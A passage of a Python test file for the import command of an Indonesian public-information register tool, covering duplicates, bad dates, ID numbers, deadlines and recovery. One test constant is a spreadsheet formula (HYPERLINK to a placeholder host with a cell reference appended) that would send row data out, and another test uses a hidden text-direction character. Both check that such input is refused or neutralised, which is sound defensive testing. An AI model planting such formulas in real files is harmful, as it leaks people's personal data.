    run.ok("impor", str(write_csv(tmp_path / "a.csv", [HEAD, ["007/PPID/5271/I/2026",
           "5/1/2026", "Ani", "Salinan DPT"]])), "--register", "permohonan")  # fmt: skip
    src = write_csv(
        tmp_path / "b.csv",
        [
            HEAD,
            ["007/PPID/5271/I/2026", "6/1/2026", "Bayu", "Data TPS"],  # 2: taken, other data
            ["", "05/01/2026", " ANI ", "salinan  DPT"],  # 3: already there (no number)
            ["008/PPID/5271/I/2026", "7/1/2026", "Citra", "SK PPK"],  # 4: good
            ["008/PPID/5271/I/2026", "8/1/2026", "Dewi", "Dana"],  # 5: number used by row 4
            ["", "7/1/2026", "citra", "SK  PPK"],  # 6: same request as row 4, typed again
            ["009/PPID/5271/I/2026", "9/1/2026", "Eko", "Jadwal"],  # 7: good
            ["010/PPID/5271/I/2026", "31/02/2026", "Fani", "Jadwal"],  # 8: impossible date
            ["", "5/1/2026", "Ani", "Salinan DPT"],  # 9: same as the register row
            ["011/PPID/5271/I/2026", "5/1/2026", "Ani", "Salinan DPT"],  # 10: register, other no
        ],
    )
    r = run.refused("impor", str(src), "--register", "permohonan", message="5 dari 9 baris")
    assert problem_lines(r.stderr) == [
        "baris 2, kolom No. Registrasi: nomor 007/PPID/5271/I/2026 sudah ada di register "
        "permohonan untuk data lain (2026-01-05, Ani, Salinan DPT)",
        "baris 5, kolom No. Registrasi: nomor 008/PPID/5271/I/2026 sudah dipakai baris 4 untuk "
        "data lain (2026-01-07, Citra, SK PPK)",
        "baris 6: duplikat dari baris 4 (tanggal, nama dan informasi sama; nomor "
        "008/PPID/5271/I/2026 / -): hanya yang pertama diimpor",
        "baris 8, kolom Tanggal: tanggal '31/02/2026' tidak ada",
        "baris 10, kolom No. Registrasi: sama dengan 007/PPID/5271/I/2026 yang sudah ada di "
        "register (tanggal, nama dan informasi sama) tetapi bernomor lain (011/PPID/5271/I/2026)",
    ]
    j = json.loads(
        run.refused("impor", str(src), "--register", "permohonan", "--coba", "--format", "json",
                    message="5 dari 9 baris bermasalah").stdout
    )  # fmt: skip
    assert j["jumlah"] == {
        "baris": 9, "impor": 2, "sudah_ada": 2, "ditolak": 5, "duplikat": 1, "nomor_baru": 0}  # fmt: skip


def test_salinan_yang_dibetulkan_diimpor(run, ws, tmp_path):
    """Row 2 is bad, row 3 is its corrected copy: row 3 is imported, not called a duplicate."""
    src = write_csv(
        tmp_path / "c.csv",
        [
            HEAD + ["NIK"],
            ["001/PPID/5271/I/2026", "5/1/2026", "Ani", "Salinan DPT", "5.27105E+15"],
            ["001/PPID/5271/I/2026", "5/1/2026", "Ani", "Salinan DPT", "'5271052304915803"],
        ],
    )
    r = run.ok("impor", str(src), "--register", "permohonan", "--lewati-baris-bermasalah")
    assert "Diimpor      : 1" in r.stdout and "Ditolak      : 1" in r.stdout
    (row,) = register_rows(ws)
    assert row["nik"] == "5271052304915803"


def test_berkas_tolak_tanpa_dibetulkan_tetap_menolak_nik_rusak(run, ws):
    """In the rejects file the NIK Excel rounded is text: re-imported unchanged it must stay
    refused (its reason says so) until it is retyped from the ID card."""
    run.ok("impor", str(XLSX), "--register", "permohonan", "--lewati-baris-bermasalah")
    (path,) = (ws.root / "impor").glob("tolak-*.csv")
    r = run.refused("impor", str(path), "--register", "permohonan", message="bermasalah")
    assert "NIK 5271051512683430 masih NIK yang rusak (lihat alasan_tolak)" in r.stderr
    fixed = path.parent.parent / "tolak-dibetulkan.csv"
    # retyped in its cell (the reason column still tells what was wrong)
    fixed.write_bytes(path.read_bytes().replace(b"5271051512683430", b"5271051512683431", 1))
    r = run("impor", str(fixed), "--register", "permohonan", "--coba")
    assert "5271051512683431" not in r.stdout.split("Masalah")[-1]


def test_nama_yang_berupa_rumus_ditolak_seperti_di_meja_layanan(run, ws, tmp_path):
    """The desk refuses a name that starts like a formula or hides direction marks; the import
    stored them (the register is opened in Excel, the NIK beside the name)."""
    src = write_csv(
        tmp_path / "nama.csv",
        [
            HEAD,
            ["001/PPID/5271/I/2026", "5/1/2026", LINK, "Salinan DPT"],
            ["002/PPID/5271/I/2026", "6/1/2026", "Ali\u202eevil", "Data TPS"],
            ["003/PPID/5271/I/2026", "7/1/2026", "Baiq Nurul", "Data TPS"],
        ],
    )
    r = run.refused("impor", str(src), "--register", "permohonan", message="bermasalah")
    assert "baris 4" not in r.stderr
    assert "baris 2, kolom Nama: diawali '=': itu rumus lembar kerja" in r.stderr
    assert "baris 3, kolom Nama: memuat karakter tak terlihat" in r.stderr
    # "-/-" for no proxy is a placeholder, not a formula: the row is imported
    ok = write_csv(tmp_path / "kuasa.csv", [[*HEAD, "Nama Kuasa"],
                   ["004/PPID/5271/I/2026", "8/1/2026", "Ani", "Data", "-/-"]])  # fmt: skip
    run.ok("impor", str(ok), "--register", "permohonan")


def test_nomor_lokal_pendek_dari_buku_lama_bukan_kerusakan_bagi_periksa(run, ws, tmp_path):
    # a legacy book's 6-digit local number is kept as written; periksa read every number
    # without 0 or + as Excel's damage (only an edited cell, or a mobile 8…, is)
    src = write_csv(tmp_path / "lokal.csv", [[*HEAD, "Nomor Kontak"],
                    ["001/PPID/5271/I/2026", "5/1/2026", "Ani", "Data", "631234"]])  # fmt: skip
    run.ok("impor", str(src), "--register", "permohonan")
    assert register_rows(ws)[0]["telepon"] == "631234"
    assert run.ok("periksa").stdout == ""


def test_nama_dengan_pindah_baris_di_sel_dibaca_satu_baris(run, ws, tmp_path):
    # Alt+Enter inside a name cell was kept: the receipt and letters printed the name on two
    # lines, and the desk refuses such a name
    src = write_csv(tmp_path / "nama.csv", [[*HEAD, "Nama Kuasa"],
                    ["001/PPID/5271/I/2026", "5/1/2026", "Lalu Ahmad\r\nZaini", "Data", "Baiq\nNurul"]])  # fmt: skip
    run.ok("impor", str(src), "--register", "permohonan")
    row = register_rows(ws)[0]
    assert (row["nama_pemohon"], row["kuasa_nama"]) == ("Lalu Ahmad Zaini", "Baiq Nurul")
    assert run.ok("periksa").stdout == ""


def test_nik_yang_tidak_mungkin_diimpor_seperti_tertulis_dengan_peringatan(run, ws, tmp_path):
    # The desk refuses a NIK of no province (99) or no birth date; an old book's value is kept as
    # typed (it is the record) and told, as the import said nothing of it and periksa never will
    nik = ["9901011203900001", "5271013202900001", "5271011203900002"]  # 99; 32/02; good
    src = write_csv(tmp_path / "nik.csv", [[*HEAD, "NIK"]] + [
        [f"00{i + 1}/PPID/5271/I/2026", "5/1/2026", f"Pemohon {chr(65 + i)}", "Data", n]
        for i, n in enumerate(nik)
    ])  # fmt: skip
    r = run.ok("impor", str(src), "--register", "permohonan")
    assert [row["nik"] for row in register_rows(ws)] == nik
    assert (
        "2 NIK tidak mungkin benar, diimpor seperti tertulis (mis. baris 2, kolom NIK: kode "
        "provinsi 99 tidak ada; baris 3, kolom NIK: bagian tanggal lahir 320290 tidak sah)"
    ) in r.stderr


LINK = '=HYPERLINK("http://contoh.invalid/?"&D3,"lihat")'  # (text in the source)


def test_berkas_tolak_yang_dibetulkan_dapat_diimpor(run, ws, tmp_path):
    src = write_csv(
        tmp_path / "lama.csv",
        [
            HEAD + ["Disposisi"],
            ["001/PPID/5271/I/2026", "5/1/2026", "Ani", "Salinan DPT", ""],
            ["002/PPID/5271/II/2026", "31/02/2026", "Bayu", "Data TPS", LINK],
        ],
    )
    run.ok("impor", str(src), "--register", "permohonan", "--lewati-baris-bermasalah")
    (path,) = (ws.root / "impor").glob("tolak-lama-*.csv")
    # opened in Excel to be corrected: a text cell stays text there, not a live formula
    # sending the row's data away (it was written as read)
    quoted = LINK.replace('"', '""')
    assert f'"\'{quoted}"' in path.read_text("utf-8-sig")
    fixed = path.read_text("utf-8-sig").replace("31/02/2026", "28/02/2026")
    fixed_path = tmp_path / "tolak-dibetulkan.csv"
    fixed_path.write_text(fixed, "utf-8-sig")
    r = run.ok("impor", str(fixed_path), "--register", "permohonan")
    assert "kolom berkas tolak diabaikan: lembar_sumber, baris_sumber, alasan_tolak" in r.stderr
    rows = {x["nama_pemohon"]: x for x in register_rows(ws)}
    assert rows["Bayu"]["tanggal_diterima"] == "2026-02-28"
    assert rows["Bayu"]["catatan"] == f"Disposisi: {LINK}"  # bookkeeping columns dropped
    # and the original file again: nothing new
    before = snapshot(ws.root)
    again = run.ok("impor", str(src), "--register", "permohonan")
    assert "Sudah ada    : 2" in again.stdout
    assert snapshot(ws.root) == before


def test_kolom_tidak_dikenal_disimpan_di_catatan(run, ws, tmp_path):
    src = write_csv(
        tmp_path / "k.csv",
        [
            HEAD + ["Keterangan", "Disposisi", "Paraf"],
            [
                "001/PPID/5271/I/2026",
                "5/1/2026",
                "Ani",
                "Salinan DPT",
                "via WA",
                "ke Sekretaris",
                "ok",
            ],  # fmt: skip
            # a lone dash is "nothing here" (and once crashed the header search, reader fix)
            ["002/PPID/5271/I/2026", "6/1/2026", "Bayu", "Data TPS", "-", "", ""],
        ],
    )
    r = run.ok("impor", str(src), "--register", "permohonan", "--coba")
    assert "Kolom tidak dikenali (isinya disimpan di catatan): 'Disposisi', 'Paraf'" in r.stdout
    run.ok("impor", str(src), "--register", "permohonan")
    ani, bayu = register_rows(ws)
    assert ani["catatan"] == "via WA; Disposisi: ke Sekretaris; Paraf: ok"
    assert bayu["catatan"] == ""


def test_peta_toml(run, ws, tmp_path):
    src = write_csv(
        tmp_path / "aneh.csv",
        [
            ["Kode Berkas", "Masuk Tgl", "Yang Memohon", "Perihal", "Putusan"],
            ["A-1", "5/1/2026", "Ani", "Salinan DPT", "Dikabulkan"],
        ],
    )
    missing = "tabel register permohonan tidak ditemukan"
    run.refused("impor", str(src), "--register", "permohonan", message=missing)
    peta = tmp_path / "peta.toml"
    peta.write_text(
        '[kolom]\n"Masuk Tgl" = "tanggal_diterima"\n"Yang Memohon" = "nama_pemohon"\n'
        '"Perihal" = "informasi_diminta"\n"Putusan" = "keputusan"\n',
        "utf-8",
    )
    r = run.ok("impor", str(src), "--register", "permohonan", "--peta", str(peta))
    assert "Masuk Tgl     →  tanggal_diterima" in r.stderr
    (row,) = register_rows(ws)
    assert (row["nomor_registrasi"], row["keputusan"], row["status"]) == (
        "001/PPID/5271/I/2026",
        "diberikan",
        "diputuskan",
    )
    assert row["catatan"] == "Kode Berkas: A-1"
    # a map the office got wrong: told in Indonesian, where, and how to write it
    peta.write_text('[kolom]\nMasuk Tgl = "tanggal_diterima"\n', "utf-8")
    r = run.refused("impor", str(src), "--register", "permohonan", "--peta", str(peta),
                    message="bukan TOML yang sah (baris 2, kolom 7)")  # fmt: skip
    assert "dalam tanda kutip" in r.stderr and "Expected" not in r.stderr
    peta.write_bytes('[kolom]\n"Masuk Tgl" = "tanggal_diterima" # é\n'.encode("cp1252"))
    run.refused("impor", str(src), "--register", "permohonan", "--peta", str(peta),
                message="bukan teks UTF-8")  # fmt: skip


def test_kolom_wajib_tidak_ada_menolak_berkas(run, tmp_path):
    src = write_csv(
        tmp_path / "w.csv",
        [["No. Registrasi", "Tanggal", "Nama", "Alamat"], ["1", "5/1/2026", "Ani", "Jl. A"]],
    )
    run.refused(
        "impor",
        str(src),
        "--register",
        "permohonan",
        message="tidak punya kolom wajib: informasi_diminta (Informasi yang Diminta)",
    )


def test_csv_pemisah_dan_encoding_dipaksa(run, ws, tmp_path):
    src = write_csv(
        tmp_path / "cp.csv",
        [HEAD, ["001/PPID/5271/I/2026", "5/1/2026", "José Ñoño", "Salinan DPT"]],
        sep="|",
        encoding="cp1252",
    )
    # the wrong encoding forced: refused in Indonesian, the workspace untouched
    for wrong in ("utf-8", "utf-16"):
        run.refused(
            "impor", str(src), "--register", "permohonan", "--pemisah", "|", "--encoding", wrong,
            message=f"berkas 'cp.csv' bukan teks {wrong} (baris 2 yang pertama)",
        )  # fmt: skip
    run.ok("impor", str(src), "--register", "permohonan", "--pemisah", "|", "--encoding",
           "cp1252")  # fmt: skip
    assert register_rows(ws)[0]["nama_pemohon"] == "José Ñoño"


def test_lembar_daftar_dan_semua(run, ws, tmp_path):
    src = write_xlsx(
        tmp_path / "buku.xlsx",
        {
            "2025": [HEAD, ["001/PPID/5271/I/2025", "6/1/2025", "Ani", "Salinan DPT"]],
            "Rekap": [["Jumlah", 2]],
            "2026": [
                HEAD,
                ["", "5/1/2026", "Bayu", "Data TPS"],
                ["", "5/1/2026", "Bayu", "Data TPS"],
            ],  # fmt: skip
        },
    )
    r = run.ok("impor", str(src), "--daftar-lembar")
    assert r.stdout.splitlines() == ["2025", "Rekap", "2026"]
    assert json.loads(run.ok("impor", str(src), "--daftar-lembar", "--format", "json").stdout) == [
        "2025",
        "Rekap",
        "2026",
    ]
    # without --lembar: the first sheet holding a table
    j = json.loads(
        run.ok("impor", str(src), "--register", "permohonan", "--coba", "--format", "json").stdout
    )
    assert [t["lembar"] for t in j["tabel"]] == ["2025"]
    j = json.loads(
        run.refused("impor", str(src), "--register", "permohonan", "--lembar", "2026", "--coba",
                    "--format", "json", message="1 dari 2 baris bermasalah").stdout  # (a duplicate)
    )  # fmt: skip
    assert [t["lembar"] for t in j["tabel"]] == ["2026"] and j["jumlah"]["baris"] == 2
    r = run.refused(
        "impor", str(src), "--register", "permohonan", "--lembar", "ALL", message="1 dari 3 baris"
    )
    assert problem_lines(r.stderr) == []  # with several sheets every line names its sheet
    coba = run.refused("impor", str(src), "--register", "permohonan", "--lembar", "ALL", "--coba",
                       message="1 dari 3 baris")  # fmt: skip
    preview = coba.stdout.split("Pratinjau")[1].splitlines()  # (so does the preview: rows 2, 2)
    assert [line.split("│")[1:3] for line in preview if line.startswith("│")] == [
        [" 2025   ", " 2     "],
        [" 2026   ", " 2     "],
    ]
    assert (
        "  lembar '2026', baris 3: duplikat dari lembar '2026' baris 2 (tanggal, nama dan "
        "informasi sama): hanya yang pertama diimpor"
    ) in r.stderr
    run.ok("impor", str(src), "--register", "permohonan", "--lembar", "ALL",
           "--lewati-baris-bermasalah")  # fmt: skip
    assert [x["nomor_registrasi"] for x in register_rows(ws)] == [
        "001/PPID/5271/I/2025",
        "001/PPID/5271/I/2026",
    ]
    lines = [e for line in journal(ws) if line["aksi"] == "tambah" for e in expand(line)]
    assert lines[-1]["sumber"] == {"berkas": "buku.xlsx", "lembar": "2026", "baris": 2}
    (path,) = (ws.root / "impor").glob("tolak-buku-*.csv")
    (rej,) = rows_of(path)
    assert rej == {
        "No. Registrasi": "",
        "Tanggal": "5/1/2026",
        "Nama": "Bayu",
        "Informasi yang Diminta": "Data TPS",
        "lembar_sumber": "2026",
        "baris_sumber": "3",
        "alasan_tolak": "duplikat dari lembar '2026' baris 2 (tanggal, nama dan informasi sama): "
        "hanya yang pertama diimpor",
    }


def test_xls_lama(run, ws):
    r = run.ok("impor", str(DATA / "permohonan-kecil.xls"), "--register", "permohonan",
               "--lewati-baris-bermasalah")  # fmt: skip
    assert "Diimpor      : 1 (nomor baru: 1)" in r.stdout
    (row,) = register_rows(ws)
    assert (row["tanggal_diterima"], row["keputusan"]) == ("2024-03-10", "diberikan")


def test_status_tenggat_dan_terlambat_diturunkan(ws, tmp_path, today):
    """Status and deadlines come from the facts; a differing source value is kept as a note."""
    src = write_csv(
        tmp_path / "s.csv",
        [
            HEAD
            + [
                "Keputusan",
                "Tanggal Pemberitahuan",
                "Tanggal Pemberian Informasi",
                "Status",
                "Batas Waktu",
            ],  # fmt: skip
            # Thu 12 Mar 2026: 18–24 Mar off (Nyepi, Idul Fitri) → due Thu 2 Apr 2026
            ["", "12/03/2026", "Ani", "Salinan DPT", "", "", "", "selesai", ""],
            ["", "12/03/2026", "Bayu", "Data TPS", "Diberikan", "06/04/2026", "", "", ""],
            [
                "",
                "12/03/2026",
                "Citra",
                "SK PPK",
                "Diberikan",
                "01/04/2026",
                "02/04/2026",
                "",
                "2026-04-02",
            ],  # fmt: skip
            ["", "12/03/2026", "Dedi", "Dana", "Ditolak", "", "", "", ""],
        ],
    )
    p = svc.plan(ws, src, "permohonan")
    got = {b.nilai["nama_pemohon"]: b.simpan() for b in p.impor}
    assert {n: (r["status"], r["jatuh_tempo"], r.get("terlambat", "")) for n, r in got.items()} == {
        "Ani": ("terdaftar", "2026-04-02", ""),
        "Bayu": ("diputuskan", "2026-04-02", "ya"),
        "Citra": ("selesai", "2026-04-02", "tidak"),
        "Dedi": ("selesai", "2026-04-02", ""),
    }
    assert got["Ani"]["catatan"] == "Status di berkas asal: selesai"
    assert p.peringatan == []  # (Bayu's delivery column is empty: not delivered, no warning)
    assert "catatan" not in got["Citra"]  # the same deadline: nothing to keep

    svc.apply(ws, p)
    today("2026-03-30")
    from ppidctl.services.queries import Filter, due_cases

    notes: dict[str, None] = {}
    cases = due_cases(ws, Filter(), peringatan=notes)  # (Bayu: given, not handed over: counted)
    assert [(c["nama_pemohon"], c["jatuh_tempo"], c["sisa_hari_kerja"]) for c in cases] == [
        ("Ani", "2026-04-02", 3),
    ]
    assert "juga terbuka tanpa tanggal tenggat: 1 permohonan berstatus diputuskan" in str(notes)
    cases = due_cases(ws, Filter(status="diputuskan"))
    assert [(c["nama_pemohon"], c["jatuh_tempo"]) for c in cases] == [("Bayu", "")]


def test_langkah_tidak_urut_ditolak(run, ws, tmp_path):
    """A notification dated before the receipt is a typo to fix, not a case to import (it
    would show as 'terdaftar' and hundreds of working days late)."""
    src = write_csv(
        tmp_path / "u.csv",
        [
            [*HEAD, "Keputusan", "Tanggal Pemberitahuan"],
            ["", "9/1/2025", "Ani", "DPT", "Diberikan", "5/1/2025"],
            ["", "9/1/2025", "Budi", "DCT", "Diberikan", "15/1/2025"],
        ],
    )
    p = svc.plan(ws, src, "permohonan")
    assert [m.teks() for m in p.masalah] == [
        "baris 2, kolom Tanggal Pemberitahuan: tanggal_pemberitahuan 2025-01-05 sebelum "
        "tanggal_diterima 2025-01-09"
    ]
    assert [b.nilai["nama_pemohon"] for b in p.impor] == ["Budi"]
    run.refused("impor", str(src), "--register", "permohonan", message="sebelum tanggal_diterima")


def test_keberatan_status_diturunkan(ws, tmp_path):
    src = write_csv(
        tmp_path / "k.csv",
        [
            [
                "No. Registrasi Keberatan",
                "Tanggal Diterima",
                "Nama Pemohon",
                "Alasan Keberatan",
                "Keputusan Atasan PPID",
                "Tanggal Tanggapan",
                "Tanggapan Pemohon",
                "Tanggal Tanggapan Pemohon",
            ],  # fmt: skip
            ["", "2/2/2026", "Ani", "c", "", "", "", ""],
            ["", "2/2/2026", "Bayu", "a", "Ditolak", "26/3/2026", "", ""],
            ["", "2/2/2026", "Citra", "a", "Diterima", "", "Menerima", ""],
            ["", "3/2/2026", "Dedi", "", "", "", "", ""],  # reason required
            # day and month swapped: the reply before the objection (no middle steps recorded)
            ["", "02/03/2026", "Eka", "c", "Ditolak", "03/02/2026", "", ""],
            # never answered, taken to the Komisi Informasi after the deadline (Mar 25): missed;
            # before it: irregular, but no deadline was missed yet
            ["", "2/2/2026", "Fajar", "c", "", "", "Sengketa", "30/3/2026"],
            ["", "2/2/2026", "Gita", "c", "", "", "Sengketa", "5/2/2026"],
            # no date for it: judged today (the deadline, in December, not passed yet)
            ["", "10/11/2026", "Hana", "c", "", "", "Sengketa", ""],
        ],
    )
    p = svc.plan(ws, src, "keberatan")
    assert [m.teks() for m in p.masalah] == [
        "baris 5, kolom Alasan Keberatan: wajib diisi (alasan) tetapi kosong",
        "baris 6, kolom Tanggal Tanggapan: tanggal_tanggapan 2026-02-03 sebelum tanggal_diterima "
        "2026-03-02",
    ]
    got = {b.nilai["nama_pemohon"]: b.simpan() for b in p.impor}
    assert got["Ani"]["status"] == "terdaftar"
    assert got["Ani"]["nomor_registrasi"] == "001/KEB/PPID/5271/II/2026"
    assert (got["Bayu"]["status"], got["Bayu"]["terlambat"]) == ("ditanggapi", "ya")
    assert got["Citra"]["status"] == "selesai"
    assert (got["Fajar"]["status"], got["Fajar"]["terlambat"]) == ("sengketa", "ya")
    assert (got["Gita"]["status"], got["Gita"]["terlambat"]) == ("sengketa", "tidak")
    assert (got["Hana"]["status"], got["Hana"]["terlambat"]) == ("sengketa", "tidak")
    # Mon 2 Feb 2026 + 30 working days, 16–17 Feb (Imlek) and 18–24 Mar (Nyepi, Idul Fitri)
    # off → Wed 25 Mar 2026; the reply of 26 Mar was late
    assert got["Ani"]["jatuh_tempo"] == "2026-03-25"


def test_daftar_berubah_antara_rencana_dan_penerapan(ws, tmp_path):
    """apply() decides again under the lock: rows imported meanwhile are not added twice."""
    src = write_csv(tmp_path / "a.csv", [HEAD, ["", "5/1/2026", "Ani", "Salinan DPT"]])
    p = svc.plan(ws, src, "permohonan")
    assert [b.nomor_baru for b in p.impor] == ["001/PPID/5271/I/2026"]
    svc.apply(ws, svc.plan(ws, src, "permohonan"))
    reg = ws.register_path("permohonan").read_bytes()
    result = svc.apply(ws, p)
    assert (len(result.diimpor), result.sudah_ada) == (0, 1)
    assert ws.register_path("permohonan").read_bytes() == reg


def test_kemajuan_dan_salah_pakai(run, ws, tmp_path):
    src = write_csv(
        tmp_path / "n.csv",
        [HEAD]
        + [
            [f"{i:03d}/PPID/5271/I/2026", "5/1/2026", f"Pemohon {i}", "DPT"] for i in range(1, 1201)
        ],  # fmt: skip
    )
    calls: list[int] = []
    p = svc.plan(ws, src, "permohonan", kemajuan=calls.append)
    assert calls == [500, 1000, 1200] and p.jumlah()["impor"] == 1200
    run.usage("impor", str(src), message="pilih register tujuan: --register permohonan atau")
    run.usage("impor", str(src), "--register", "surat", message="'surat' bukan salah satu dari")


def test_a_large_import_shows_its_progress_on_a_terminal_only(run, ws, tmp_path):
    """A file of BESAR_BARIS + 1 rows: with stderr a terminal (a pty) the rows read (the bar
    appears at BESAR_BARIS, ends at the last row) and the saving are shown there; stderr not a
    terminal: nothing. Catches the CLI's bar (cli/impor.py _Kemajuan) switched off, not
    updated, or its row threshold moved."""
    import os
    import select
    import subprocess
    import sys

    import pytest

    from ppidctl.cli.impor import BESAR_BARIS

    pty = pytest.importorskip("pty")  # (POSIX terminals)

    rows = [[f"{i:03d}/PPID/5271/I/2026", "5/1/2026", f"Pemohon {i}", "DPT"]
            for i in range(1, BESAR_BARIS + 2)]  # fmt: skip
    src = write_csv(tmp_path / "besar.csv", [HEAD, *rows])  # (far below BESAR_BYTE)
    args = ("impor", str(src), "--register", "permohonan")
    assert "Membaca baris" not in run.ok(*args, "--coba").stderr  # (no terminal: no bar)

    env = {
        k: v
        for k, v in os.environ.items()
        if k not in ("NO_COLOR", "FORCE_COLOR", "TTY_COMPATIBLE")
    }
    env["TERM"] = "xterm-256color"
    master, slave = pty.openpty()
    with open(tmp_path / "stdout", "wb") as out:
        child = subprocess.Popen([sys.executable, "-m", "ppidctl", "-C", str(ws.root), *args],
                                 stdin=subprocess.DEVNULL, stdout=out, stderr=slave, env=env)  # fmt: skip
    os.close(slave)
    shown = b""
    while select.select([master], [], [], 120)[0]:  # (a hung child fails, not hangs)
        try:
            chunk = os.read(master, 65536)
        except OSError:  # (EIO: the child has closed the terminal)
            break
        if not chunk:
            break
        shown += chunk
    os.close(master)
    assert child.wait(timeout=120) == 0, shown
    text = shown.decode("utf-8", "replace")
    first, last = (f"{n:,}".replace(",", ".") for n in (BESAR_BARIS, BESAR_BARIS + 1))
    assert f"Membaca baris {first}" in text and f"Membaca baris {last}" in text, text
    assert f"Menyimpan {last} baris ke register" in text, text
    assert len(register_rows(ws)) == BESAR_BARIS + 1


def test_imported_rows_are_checked_and_rebuilt_from_the_one_journal_line(run, ws):
    from ppidctl.integrity import check
    from ppidctl.integrity import model as m

    run.ok("impor", str(XLSX), "--register", "permohonan", "--lewati-baris-bermasalah")
    path = ws.register_path("permohonan")
    good = path.read_bytes()
    journalled = (m.DIUBAH_DI_LUAR, m.BARIS_TIDAK_TERCATAT, m.BARIS_HILANG, m.RIWAYAT_DIUBAH)
    assert not [p for p in check(ws).problems if p.kode in journalled]

    # a hand edit of one imported row: found by row and field, against the import's line
    path.write_bytes(good.replace(b"Ahmad Pratama", b"Ahmad Pratama Putra", 1))
    (edit,) = [p for p in check(ws).problems if p.kode in journalled]
    assert (edit.kode, edit.baris) == (m.DIUBAH_DI_LUAR, 2)
    assert "kolom nama_pemohon" in edit.pesan and "'Ahmad Pratama'" in edit.pesan

    # the register deleted: rebuilt from the import's one journal line, byte for byte
    path.unlink()
    run.ok("pulihkan")
    assert path.read_bytes() == good


def test_an_import_journalled_but_not_written_is_rolled_forward(run, ws):
    run.ok("permohonan", "catat", *REQUEST, "--tanggal", "2026-03-02", "--tanpa-surat")
    before = ws.register_path("permohonan").read_bytes()
    run.ok("impor", str(XLSX), "--register", "permohonan", "--lewati-baris-bermasalah")
    after = ws.register_path("permohonan").read_bytes()
    ws.register_path("permohonan").write_bytes(before)  # the process died before replacing it
    run.refused("permohonan", "teruskan", "1", message="belum tertulis ke register")
    out = run.ok("pulihkan").stdout
    assert "(impor) diterapkan" in out
    assert ws.register_path("permohonan").read_bytes() == after  # what the import would write


def test_nomor_registrasi_di_kolom_nomor_dan_tanggal_masa_depan(run, ws, tmp_path):
    """A "Nomor" column holding registration numbers is not a row count to throw away; a date
    after today (a typo such as 12/11/27) is a problem of its row, not a case in 2027."""
    src = write_csv(
        tmp_path / "n.csv",
        [
            ["Nomor", "Tanggal", "Nama", "Informasi yang Diminta", "Keputusan", "Batas Waktu"],
            ["003/PPID/V/2019", "8 Mei 2019", "Tiga", "Info N3", "Diberikan", ""],
            ["4", "9 Mei 2019", "Empat", "Info N4", "Diberikan", ""],
            ["5a", "10 Mei 2019", "Lima", "Info N5", "Diberikan", ""],
            ["6", "12/11/27", "Typo", "Info N6", "", ""],
            ["7", "20/11/2026", "Baru", "Info N7", "", "04/12/2026"],  # open: deadline ahead
        ],
        sep=";",
    )
    r = run("impor", str(src), "--register", "permohonan", "--coba")
    assert "kolom 'Nomor' dibaca sebagai nomor urut" in r.stdout
    assert "baris 5, kolom Tanggal: tanggal 2027-11-12 di masa depan (hari ini 2026-11-22)" in (
        r.stdout
    )
    run.ok("impor", str(src), "--register", "permohonan", "--lewati-baris-bermasalah")
    got = {x["nama_pemohon"]: x for x in register_rows(ws)}
    assert got["Tiga"]["nomor_registrasi"] == "003/PPID/V/2019"  # kept, never renumbered
    assert got["Empat"]["nomor_registrasi"] == "004/PPID/5271/V/2019"  # a count: numbered after 003
    assert got["Lima"]["catatan"] == "Nomor: 5a"  # neither: kept as a note
    assert got["Baru"]["jatuh_tempo"] == "2026-12-04" and "Typo" not in got


def test_kolom_turunan_yang_tak_terbaca_menjadi_catatan(run, ws, tmp_path):
    """Status, deadline and lateness are recomputed from the facts: wording the import cannot
    read there ("Proses", "10 hari kerja", "Ya, 3 hari") is kept as a note, not a refusal."""
    src = write_csv(
        tmp_path / "t.csv",
        [
            HEAD + ["Status", "Batas Waktu", "Terlambat"],
            ["001/PPID/5271/XI/2026", "16/11/2026", "Ani", "Salinan DPT", "Proses",
             "10 hari kerja", "Ya, 3 hari"],
        ],
    )  # fmt: skip
    run.ok("impor", str(src), "--register", "permohonan")
    (row,) = register_rows(ws)
    assert (row["status"], row["jatuh_tempo"]) == ("terdaftar", "2026-11-30")
    assert row["catatan"] == "Status: Proses; Batas Waktu: 10 hari kerja; Terlambat: Ya, 3 hari"
    assert set(svc.DERIVED_LABEL) == schema.TURUNAN


def test_nomor_yang_sudah_diberikan_meja_layanan_disebut_sebabnya(run, ws, tmp_path, request_args):
    """An office adopting mid-year recorded at the desk first (001/…/XI/2026), then imported its
    book of the year (001/…/I/2026, …): the refusal guessed "the old book restarts every month?"
    and offered to renumber the official old numbers. It names the real cause."""
    run.ok("permohonan", "catat", *request_args, "--tanggal", "2026-11-20", "--tanpa-surat")
    rows = [HEAD, ["001/PPID/5271/I/2026", "6/1/2026", "Ani", "A"],
            ["002/PPID/5271/I/2026", "7/1/2026", "Budi", "B"]]  # fmt: skip
    src = write_csv(tmp_path / "buku-2026.csv", rows)
    out = run.refused("impor", str(src), "--register", "permohonan",
                      message="nomor urut 001/PPID/5271/I/2026 sudah diberikan register permohonan "
                      "kepada 001/PPID/5271/XI/2026 pada tahun yang sama: nomor urut tidak boleh "
                      "dipakai dua kali (bila nomor itu diberikan meja layanan sebelum buku lama "
                      "diimpor: buat ulang workspace")  # fmt: skip
    assert "mulai dari 1 lagi setiap bulan" not in out.stderr


def test_buku_bernomor_per_bulan_diberi_jalan_keluar(run, ws, tmp_path):
    """An old book numbering afresh each month (001/…/I, 002/…/I, 001/…/II): refused row by row
    (a sequence is never reused in a year) with no hint of the --peta that imports it."""
    rows = [HEAD, ["001/PPID/5271/I/2025", "6/1/2025", "Ani", "A"],
            ["002/PPID/5271/I/2025", "7/1/2025", "Budi", "B"],
            ["001/PPID/5271/II/2025", "3/2/2025", "Citra", "C"],
            ["002/PPID/5271/II/2025", "4/2/2025", "Dodi", "D"]]  # fmt: skip
    src = write_csv(tmp_path / "bulanan.csv", rows)
    out = run.refused("impor", str(src), "--register", "permohonan",
                      message="sudah dipakai 001/PPID/5271/I/2025 pada tahun yang sama")  # fmt: skip
    assert ('impor dengan --peta berisi [kolom] "No. Registrasi" = "catatan"') in out.stderr
    peta = tmp_path / "peta.toml"
    peta.write_text('[kolom]\n"No. Registrasi" = "catatan"\n', "utf-8")
    run.ok("impor", str(src), "--register", "permohonan", "--peta", str(peta))
    got = {r["nama_pemohon"]: (r["nomor_registrasi"], r["catatan"]) for r in register_rows(ws)}
    assert got["Citra"] == ("003/PPID/5271/II/2025", "001/PPID/5271/II/2025")  # (the old, kept)


def test_nomor_angka_saja_dilengkapi_menurut_tanggal(run, ws, tmp_path, request_args):
    """A register that numbered requests 1, 2, … each year: "1" is not a registration number
    that is never reused, so it is completed with the receipt date; the original is a note, and
    'permohonan lihat 1' keeps meaning this year's first request."""
    src = write_csv(
        tmp_path / "angka.csv",
